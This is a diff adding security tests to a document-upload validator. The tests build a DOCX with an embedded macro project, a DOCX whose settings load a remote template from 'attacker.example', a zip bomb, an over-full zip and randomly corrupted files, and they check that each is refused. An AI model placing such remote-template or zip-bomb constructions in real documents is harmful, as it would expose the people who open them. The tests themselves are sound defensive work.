@@ -77,6 +77,75 @@ def test_a_macro_enabled_document_is_refused():
     assert "macros" in error_of(macro)
 
 
+def test_a_document_with_a_macro_project_is_refused():
+    import io
+    import zipfile
+
+    buffer = io.BytesIO(files.docx_bytes())
+    with zipfile.ZipFile(buffer, "a") as archive:
+        archive.writestr("word/vbaProject.bin", b"macro")
+    assert "macros" in error_of(files.upload("policy.docx", buffer.getvalue()))
+
+
+def test_a_document_that_loads_a_remote_template_is_refused():
+    import io
+    import zipfile
+
+    buffer = io.BytesIO(files.docx_bytes())
+    with zipfile.ZipFile(buffer, "a") as archive:
+        archive.writestr(
+            "word/_rels/settings.xml.rels",
+            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
+            'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+            'Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
+        )
+    assert "loads a template from elsewhere" in error_of(
+        files.upload("policy.docx", buffer.getvalue())
+    )
+
+
+def test_a_bomb_hidden_in_the_content_types_part_is_stopped_by_the_running_count():
+    import io
+    import zipfile
+
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", b" " * (120 * 2**20))
+        archive.writestr("word/document.xml", "<w:document/>")
+    assert "expands to more than 100 MB" in error_of(files.upload("x.docx", buffer.getvalue()))
+
+
+def test_a_zip_declaring_too_many_parts_is_refused_before_its_directory_is_read():
+    import io
+    import zipfile
+
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for n in range(documents.MAX_ZIP_ENTRIES + 1):
+            archive.writestr(f"p{n}", b"")
+    assert "too many parts" in error_of(files.upload("x.docx", buffer.getvalue()))
+
+
+@pytest.mark.parametrize("make", [files.docx_bytes, lambda: files.image_bytes("PNG")])
+def test_damaged_files_are_refused_never_crash(make):
+    import random
+
+    original = make()
+    rng = random.Random(7)
+    refused = 0
+    for _ in range(300):
+        damaged = bytearray(original)
+        for _ in range(3):
+            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
+        name = "x.docx" if original.startswith(b"PK") else "x.png"
+        try:
+            check_upload(files.upload(name, bytes(damaged)), (documents.DOCX, documents.PNG))
+        except ValidationError:  # anything else fails the test
+            refused += 1
+    assert refused > 100
+
+
 def test_a_plain_zip_renamed_docx_is_refused():
     import io
     import zipfile
@@ -95,6 +164,8 @@ def test_types_not_accepted_here_are_named():
 def test_a_name_without_an_extension_is_judged_by_its_content():
     checked = check_upload(files.upload("Policy v2.1 final", files.pdf_bytes()), AGREEMENT_TYPES)
     assert checked.filename == "Policy v2.1 final.pdf"
+    checked = check_upload(files.upload("MOU 2024.03", files.docx_bytes()), AGREEMENT_TYPES)
+    assert checked.filename == "MOU 2024.03.docx"
     assert "Upload a PDF or Word (.docx) file" in error_of(files.upload("notes", b"hello there"))
 
 
